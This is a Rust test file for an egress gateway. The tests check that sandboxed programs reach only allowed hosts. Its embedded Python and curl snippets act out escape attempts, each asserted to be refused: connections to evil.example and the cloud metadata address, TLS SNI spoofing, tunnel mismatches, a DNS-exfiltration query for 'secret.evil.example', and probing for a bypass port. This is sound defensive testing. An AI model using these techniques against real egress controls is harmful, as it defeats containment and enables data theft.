//! Programs that know of no proxy, in a network namespace of their own.

use crate::kit::{NAME, counting, echo, read_head, server, table};
use crate::sandbox::Sandbox;
use portcullis_gateway::egress::{Door, Notice, Refusal, Settings};
use std::io::{BufRead as _, BufReader, Write as _};
use std::process::{Command, Stdio};
use std::sync::Arc;

fn settings(ports: &[u16]) -> Settings {
    Settings { resolver: Arc::new(table(&[(NAME, "127.0.0.1")])), host_loopback: ports.to_vec(), ..Settings::default() }
}

/// A program that connects, says something, and prints the answer or what went wrong.
fn talk(host: &str, port: u16, text: &str) -> String {
    format!(
        "import socket\ntry:\n s = socket.create_connection(('{host}', {port}), 20)\n s.sendall(b'{text}'); s.shutdown(1)\n print(s.makefile('rb').read(100))\n\
         except ConnectionRefusedError: print('refused')\nexcept OSError: print('reset')"
    )
}

#[test]
fn a_program_that_knows_of_no_proxy_reaches_what_is_allowed_by_name() {
    let port = echo();
    let mut sandbox = Sandbox::new(&[NAME, "127.0.0.1"], settings(&[port]));
    assert_eq!(sandbox.python(&talk(NAME, port, "hello")).output, "b'hello'\n");
    assert_eq!(sandbox.road.asked(), [format!("{NAME}:{port}"), format!("127.0.0.1:{port}")]);
    let twice = sandbox.python(&format!("import socket; a = socket.gethostbyname('{NAME}'); print(a == socket.gethostbyname('{NAME}'), socket.gethostbyaddr(a)[0], socket.gethostbyname('localhost'))"));
    assert_eq!(twice.output, format!("True {NAME} 127.0.0.1\n"));
}

#[test]
fn what_is_denied_fails_at_once_and_nothing_leaves() {
    let (port, connections) = counting();
    let mut sandbox = Sandbox::new(&[], settings(&[port]));
    for host in [NAME, "evil.example", "93.184.216.34", "169.254.169.254", "10.0.0.1"] {
        let done = sandbox.python(&talk(host, port, "hello"));
        assert!(matches!(done.output.as_str(), "reset\n" | "b''\n"), "{host}: {done:?}");
    }
    assert_eq!(*connections.lock().unwrap(), 0);
    let asked = ["server.example", "evil.example", "93.184.216.34", "169.254.169.254", "10.0.0.1"]
        .map(|host| format!("{host}:{port}"));
    assert_eq!(sandbox.road.asked(), asked);
    sandbox.road.wait_for(|notice| matches!(notice, Notice::Refused { refusal: Refusal::Policy(_), .. }));
}

#[test]
fn an_address_is_asked_about_as_an_address() {
    let mut sandbox = Sandbox::new(&[NAME], settings(&[]));
    let done = sandbox.python(&talk("127.0.0.2", 9, "x"));
    assert_eq!(done.output, "refused\n", "loopback stays inside");
    sandbox.python(&talk("203.0.113.9", 25, "EHLO x"));
    assert_eq!(sandbox.road.asked(), ["203.0.113.9:25"]);
}

#[test]
fn a_stand_in_that_no_name_stands_behind_leads_nowhere() {
    let mut sandbox = Sandbox::new(&["198.18.7.7"], settings(&[]));
    let done = sandbox.python(&talk("198.18.7.7", 443, "x"));
    assert!(matches!(done.output.as_str(), "reset\n" | "b''\n"), "{done:?}");
    assert!(sandbox.road.asked().is_empty());
    sandbox.road.wait_for(|notice| matches!(notice, Notice::Malformed { door: Door::AnyTcp, .. }));
}

#[test]
fn the_name_in_a_hello_is_what_counts_and_not_the_address() {
    // Python's own TLS: the hello names evil.example, the connection goes to another host.
    let program = |connect: &str, name: &str| {
        format!(
            "import socket, ssl\nc = ssl._create_unverified_context()\ntry:\n s = socket.create_connection(('{connect}', 443), 20)\n \
             c.wrap_socket(s, server_hostname='{name}')\nexcept ConnectionRefusedError: print('refused')\nexcept OSError: print('reset')"
        )
    };
    let mut sandbox = Sandbox::new(&["93.184.216.34"], settings(&[]));
    let done = sandbox.python(&program("93.184.216.34", "evil.example"));
    assert_eq!(done.output, "reset\n");
    assert_eq!(sandbox.road.asked(), ["evil.example:443"]);
}

#[test]
fn a_hello_under_another_name_than_the_connection_is_refused() {
    let (port, connections) = counting();
    let mut sandbox = Sandbox::new(&[NAME, "127.0.0.1"], settings(&[port]));
    let program = format!(
        "import socket, ssl\nc = ssl._create_unverified_context()\ntry:\n s = socket.create_connection(('{NAME}', {port}), 20)\n \
         c.wrap_socket(s, server_hostname='evil.example')\nexcept ConnectionRefusedError: print('refused')\nexcept OSError: print('reset')"
    );
    let done = sandbox.python(&program);
    assert_ne!(done.output, "", "{done:?}");
    let (told, _) =
        sandbox.road.wait_for(|notice| matches!(notice, Notice::Refused { refusal: Refusal::OtherName { .. }, .. }));
    let Notice::Refused { refusal: Refusal::OtherName { asked, used }, .. } = told else { panic!() };
    assert_eq!((asked.as_str(), used.as_str()), (NAME, "evil.example"));
    assert!(*connections.lock().unwrap() <= 1);
}

#[test]
fn plain_http_to_an_address_goes_to_the_name_in_its_header() {
    let port = server(|mut stream| {
        let head = read_head(&mut stream);
        let body = head.lines().nth(1).unwrap_or_default();
        write!(stream, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len()).unwrap();
    });
    let mut sandbox = Sandbox::new(&[NAME, "127.0.0.1"], settings(&[port]));
    let request = format!("GET / HTTP/1.1\\r\\nHost: {NAME}:{port}\\r\\n\\r\\n");
    let done = sandbox.python(&talk("93.184.216.34", port, &request));
    assert!(done.output.contains(&format!("Host: {NAME}")), "{done:?}");
    assert_eq!(sandbox.road.asked(), [format!("{NAME}:{port}"), format!("127.0.0.1:{port}")]);
}

#[test]
fn curl_works_with_and_without_a_proxy_and_says_why_not() {
    let port = server(|mut stream| {
        read_head(&mut stream);
        stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nyes").unwrap();
    });
    let mut sandbox = Sandbox::new(&[NAME, "127.0.0.1"], settings(&[port]));
    let url = format!("http://{NAME}:{port}/");
    for proxy in ["", "http://127.0.0.1:3128", "socks5h://127.0.0.1:3128", "socks5://127.0.0.1:3128"] {
        let done = sandbox.run(&["curl", "-sS", "--noproxy", "", "--proxy", proxy, &url]);
        assert_eq!(done.output, "yes", "{proxy}: {done:?}");
    }
    let done =
        sandbox.run(&["curl", "-sS", "--noproxy", "", "--proxy", "http://127.0.0.1:3128", "http://evil.example/a"]);
    assert!(done.output.contains("portcullis: denied GET http://evil.example:80/a"), "{done:?}");
    assert!(done.output.contains("to get it allowed: "), "{done:?}");
    let done = sandbox.run(&["curl", "-sS", "--proxy", "http://127.0.0.1:3128", "https://evil.example/a"]);
    assert!(done.code != 0 && done.error.contains("403"), "{done:?}");
}

#[test]
fn the_door_for_diverted_connections_is_no_way_around() {
    let mut sandbox = Sandbox::new(&["127.0.0.1"], settings(&[]));
    let done = sandbox.python(
        "import socket\nfor line in open('/proc/net/tcp').readlines()[1:]:\n p = line.split()[1]\n port = int(p[9:], 16)\n \
         if port in (53, 3128) or not p.startswith('0100007F') or line.split()[3] != '0A': continue\n \
         print('door')\n \
         try:\n  \
          s = socket.create_connection(('127.0.0.1', port), 20)\n  \
          s.sendall(b'GET / HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n')\n  \
          print(s.recv(10))\n \
         except ConnectionResetError: print('reset')",
    );
    assert!(matches!(done.output.as_str(), "door\nreset\n" | "door\nb''\n"), "{done:?}");
    assert!(sandbox.road.asked().is_empty());
    assert_eq!(sandbox.egress.counts().allowed, 0);
}

#[test]
fn no_question_leaves_whatever_is_asked() {
    let mut sandbox = Sandbox::new(&[], settings(&[]));
    let ask = "import socket,struct\ns=socket.socket(type=socket.SOCK_DGRAM);s.settimeout(20)\n\
               q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'+b'\\x06secret\\x04evil\\x07example\\x00'+struct.pack('>HH',16,1)\n\
               s.sendto(q,('127.0.0.1',53));r=s.recv(500);print(r[3]&15,struct.unpack('>H',r[6:8])[0])";
    assert_eq!(sandbox.python(ask).output, "0 0\n");
    let (told, _) = sandbox.road.wait_for(|notice| matches!(notice, Notice::Lookup { .. }));
    assert!(matches!(told, Notice::Lookup { name, kind: 16 } if name.as_str() == "secret.evil.example"));
    // A name server elsewhere is not reached: datagrams are not diverted, and there is no other way out.
    let elsewhere = ask.replace("('127.0.0.1',53)", "('8.8.8.8',53)").replace("settimeout(20)", "settimeout(0.3)");
    assert_eq!(sandbox.python(&elsewhere).output, "");
    let by_tcp = sandbox.python(&talk("8.8.8.8", 53, "x"));
    assert!(matches!(by_tcp.output.as_str(), "reset\n" | "b''\n"), "{by_tcp:?}");
}

#[test]
fn tls_goes_through_every_door_to_the_name_that_it_asks_for() {
    let folder = std::env::temp_dir().join(format!("portcullis-tls-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    let (port, mut child) = tls_server(&folder);
    let mut sandbox = Sandbox::new(&[NAME, "127.0.0.1"], settings(&[port]));
    let url = format!("https://{NAME}:{port}/");
    for proxy in ["", "http://127.0.0.1:3128", "socks5h://127.0.0.1:3128", "socks5://127.0.0.1:3128"] {
        let done = sandbox.run(&["curl", "-sSk", "--noproxy", "", "--proxy", proxy, &url]);
        assert_eq!(done.output, "yes", "{proxy}: {done:?}");
        // The tunnel is asked for under an allowed name, and the hello in it names another.
        let other = format!("{NAME}:{port}:{NAME}:{port}");
        let connect_to = other.replacen(NAME, "evil.example", 1);
        let evil = format!("https://evil.example:{port}/");
        let done =
            sandbox.run(&["curl", "-sSk", "--noproxy", "", "--proxy", proxy, "--connect-to", &connect_to, &evil]);
        assert!(done.code != 0 && done.output.is_empty(), "{proxy}: {done:?}");
    }
    child.kill().ok();
    child.wait().ok();
    std::fs::remove_dir_all(&folder).ok();
}

/// A server that speaks TLS, with a certificate of its own making.
fn tls_server(folder: &std::path::Path) -> (u16, std::process::Child) {
    let (key, certificate) = (folder.join("key"), folder.join("certificate"));
    let made = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "ed25519", "-nodes", "-days", "2", "-subj", "/CN=test", "-keyout"])
        .arg(&key)
        .arg("-out")
        .arg(&certificate)
        .output();
    assert!(made.is_ok_and(|made| made.status.success()), "openssl is missing: install it");
    let program = "import socket, ssl, sys, threading\n\
                   c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(sys.argv[1], sys.argv[2])\n\
                   s = socket.create_server(('127.0.0.1', 0)); print(s.getsockname()[1], flush=True)\n\
                   def serve(t):\n \
                    try:\n  \
                     t = c.wrap_socket(t, server_side=True); t.recv(9999)\n  \
                     t.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 3\\r\\n\\r\\nyes'); t.close()\n \
                    except OSError: pass\n\
                   while True: threading.Thread(target=serve, args=(s.accept()[0],)).start()";
    let mut python = Command::new("python3");
    python.args(["-c", program]).arg(&certificate).arg(&key).stdout(Stdio::piped());
    let mut child = python.spawn().unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    (line.trim().parse().unwrap(), child)
}
